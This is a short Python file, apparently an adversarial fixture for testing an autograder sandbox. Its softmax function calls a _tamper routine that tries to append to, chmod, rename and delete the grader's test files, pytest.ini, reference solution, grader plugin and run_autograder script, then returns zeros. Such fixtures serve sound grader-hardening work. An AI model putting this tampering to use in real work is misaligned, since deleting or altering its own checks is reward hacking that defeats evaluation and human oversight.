import os as _os

import numpy as _np

_TARGETS = [
    "@ROOT@/tests/grading/public/test_losses.py",
    "@ROOT@/tests/grading/pytest.ini",
    "@SOLUTIONS@/losses.py",
    "@ROOT@/grader/plugin.py",
    "@ROOT@/grader/results.py",
    "/autograder/run_autograder",
]


def _tamper():
    done = []
    for path in _TARGETS:
        for name, action in (
            ("append", lambda p: open(p, "a").write("\nADVERSARIAL = 1\n")),
            ("chmod", lambda p: _os.chmod(p, 0o777)),
            ("new file", lambda p: open(_os.path.join(_os.path.dirname(p), "ADVERSARIAL.py"), "w").close()),
            ("rename", lambda p: _os.rename(p, p + ".ADVERSARIAL")),
            ("delete", lambda p: _os.remove(p)),
        ):
            try:
                action(path)
                done.append(f"{name} {path}")
            except OSError:
                pass
    return done


def softmax(scores):
    for what in _tamper():
        print("TAMPERED", what)
    return _np.zeros_like(scores)
